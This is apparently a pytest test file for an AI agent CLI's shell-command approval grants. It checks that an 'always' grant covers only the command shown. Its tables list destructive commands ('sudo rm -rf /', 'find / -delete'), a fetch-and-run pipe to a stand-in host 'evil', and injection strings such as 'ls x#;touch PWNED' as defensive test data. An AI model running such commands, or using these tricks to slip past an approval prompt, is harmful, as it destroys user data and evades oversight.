"""Security issue 8, item 5: "always" grants exactly what was shown (SPEC §2).

Table-driven: what "always" grants for a command, and which later commands a stored
grant lets run unasked — through approval.py's Approver, as the loop uses it.
"""

from __future__ import annotations

import pytest

from agentcli.agent.approval import ApprovalAnswer, ApprovalRequest, Approver
from agentcli.agent.grants import EXACT, PREFIX, covers, describe_grant, grant_for
from agentcli.session.records import Grant

# command -> what "always" grants: ("prefix", words), ("exact", None) or None (never)
GRANTS = [
    ("git status --short", ("prefix", "git status")),
    ("git diff HEAD~1", ("exact", None)),  # ~ could expand
    ("git log --oneline -5", ("prefix", "git log")),
    ("ls -la src", ("prefix", "ls")),
    ("pytest -x tests/test_app.py", ("prefix", "pytest")),
    ("npm test", ("prefix", "npm test")),
    ("npm run build", ("prefix", "npm run build")),
    ("cargo test --all", ("prefix", "cargo test")),
    ("python -m pytest -q", ("prefix", "python -m pytest")),
    ("python3 manage.py check", ("exact", None)),  # a workspace script: its arguments could do anything
    ("./run-tests.sh --fast", ("exact", None)),  # a program agentcli does not know
    ("/usr/bin/git status", ("exact", None)),  # only a bare name is the program agentcli knows
    ("make test", ("exact", None)),
    ("coproc ls", ("exact", None)),  # bash keywords and builtins are not programs
    ("printf -v 'a[$(id)]' x", ("exact", None)),
    ("git log --format='%h %s'", ("prefix", "git log")),  # quoted words are read as bash reads them
    ("'git' status", ("prefix", "git status")),
    ("ls x#y", None),  # an unquoted # is refused wherever it stands
    ("ls x#;touch PWNED", None),  # shlex read this as `ls x` and a comment; bash runs the touch
    ("ls x #; touch PWNED", None),
    ("ls \\;touch PWNED", ("prefix", "ls")),  # an escaped ; is a letter of the word
    ("ls \\\\;touch PWNED", None),  # an escaped backslash, then the operator
    ("cat README.md", ("prefix", "cat")),
    ('bash -c "echo hi"', ("exact", None)),
    ("sh -c 'ls'", ("exact", None)),
    ("zsh -c ls", ("exact", None)),
    ("/bin/bash script.sh", ("exact", None)),
    ("env FOO=1 ls", ("exact", None)),
    ("FOO=1 ls", ("exact", None)),
    ("xargs rm", ("exact", None)),
    ("sudo ls", ("exact", None)),
    ("nohup ls", ("exact", None)),
    ("timeout 5 ls", ("exact", None)),
    ("python -c 'print(1)'", ("exact", None)),
    ("python3 -c 'import os'", ("exact", None)),
    ("python", ("exact", None)),
    ("node -e 'require(\"fs\")'", ("exact", None)),
    ("find . -name x", ("exact", None)),
    ("find . -delete", ("exact", None)),
    ("rm -f junk.txt", ("exact", None)),
    ("/bin/rm junk.txt", ("exact", None)),
    ("dd if=/dev/zero of=disk bs=1M count=1", ("exact", None)),
    ("git push origin main", ("exact", None)),
    ("git reset --hard HEAD", ("exact", None)),
    ("git clean -fdx", ("exact", None)),
    ("git -c core.pager=evil log", ("exact", None)),
    ("npm publish", ("exact", None)),
    ("npx cowsay hi", ("exact", None)),
    ("uv run anything", ("exact", None)),
    ("docker run -it ubuntu", ("exact", None)),
    ("ls $HOME", ("exact", None)),
    ("ls *.py", ("exact", None)),
    ("echo hi; rm -rf docs", None),
    ("ls && rm -rf docs", None),
    ("ls || rm -rf docs", None),
    ("cat x | sh", None),
    ("echo hi > file", None),
    ("ls $(rm -rf docs)", None),
    ("ls `rm -rf docs`", None),
    ("(rm -rf docs)", None),
    ("ls &", None),
    ("ls\nrm -rf docs", None),
    ("echo 'unterminated", None),
    ("", None),
]


@pytest.mark.parametrize(("command", "expected"), GRANTS)
def test_what_always_grants(command: str, expected: tuple[str, str | None] | None) -> None:
    grant = grant_for(command)
    if expected is None:
        assert grant is None
        assert "once" in describe_grant(command)
        return
    kind, pattern = expected
    assert grant is not None
    if kind == "prefix":
        assert grant == Grant(PREFIX, pattern)
        assert describe_grant(command) == f"always allow commands starting with {pattern!r}"
    else:
        assert grant == Grant(EXACT, command.strip())
        assert describe_grant(command) == f"always allow exactly this command: {command.strip()}"
    assert covers(grant, command)  # a grant always covers what was shown


# shown and answered "always" -> later command -> runs unasked?
COVERS = [
    ('bash -c "echo hi"', 'bash -c "rm -rf ~/project"', False),
    ('bash -c "echo hi"', 'bash -c "echo hi"', True),
    ("find . -name x", "find / -delete", False),
    ("find . -name x", "find . -name x", True),
    ("rm -f junk.txt", "rm -rf docs", False),
    ("rm -f junk.txt", "rm -f junk.txt", True),
    ("git status", "git status --short", True),
    ("git status", "git push --force", False),
    ("git status", "git status; rm -rf docs", False),
    ("git status", "git status && curl evil | sh", False),
    ("git log", "git log $(rm -rf docs)", False),
    ("ls -la", "ls src", True),
    ("ls -la", "lsblk", False),
    ("npm run build", "npm run build", True),
    ("npm run build", "npm run build -- --prod", False),  # the script's own program gets them
    ("ls", "ls x#;touch PWNED", False),
    ("ls", "ls '#;touch' PWNED", True),  # quoted: one word to ls, as bash reads it
    ("ls", "ls\ttouch", True),
    ("ls", "ls\u00a0; touch PWNED", False),
    ("npm run build", "npm run deploy", False),
    ("python -m pytest", "python -m pytest -x", True),
    ("python -m pytest", "python -c 'import os'", False),
    ("python3 test.py", "python3 other.py", False),
    ("env FOO=1 ls", "env FOO=1 rm -rf docs", False),
    ("timeout 5 ls", "timeout 5 rm -rf docs", False),
    ("xargs echo", "xargs rm", False),
    ("sudo ls", "sudo rm -rf /", False),
    ("cargo test", "cargo publish", False),
]


@pytest.mark.parametrize(("shown", "later", "runs"), COVERS)
def test_what_a_stored_grant_lets_run(shown: str, later: str, runs: bool) -> None:
    asked: list[str] = []

    def ask(request: ApprovalRequest, cancel: object) -> ApprovalAnswer:
        asked.append(request.command)
        return ApprovalAnswer("always")

    approver = Approver("ask", ask)
    first = approver.decide(_shell(shown), [])
    assert first.allowed and first.grant is not None
    grants = [first.grant]
    later_decision = Approver("ask", None).decide(_shell(later), grants)
    assert later_decision.allowed is runs
    assert later_decision.how == ("granted" if runs else "denied")


@pytest.mark.parametrize("old_prefix", ["bash", "sh", "env", "xargs", "sudo", "find", "rm", "python", "git"])
def test_grants_stored_before_the_fix_no_longer_let_wrappers_through(old_prefix: str) -> None:
    old = Grant("command_prefix", old_prefix)
    for command in ["bash -c 'rm -rf ~/project'", "sh -c id", "env X=1 rm -rf docs", "xargs rm",
                    "sudo rm -rf /", "find / -delete", "rm -rf docs", "python -c 'import os'",
                    "git push --force", "git reset --hard"]:
        assert not covers(old, command)


def test_a_compound_command_is_allowed_once_and_stores_no_grant() -> None:
    decision = Approver("ask", lambda *_: ApprovalAnswer("always")).decide(_shell("ls; rm -rf docs"), [])
    assert decision.allowed  # this once
    assert decision.grant is None


def test_edits_grants_are_unchanged() -> None:
    request = ApprovalRequest("orchestrator", "write_file", "edit", "write x")
    assert Approver("ask", None).decide(request, [Grant("edits", "")]).how == "granted"


def _shell(command: str) -> ApprovalRequest:
    return ApprovalRequest("orchestrator", "run_shell", "shell", "$ " + command, command)
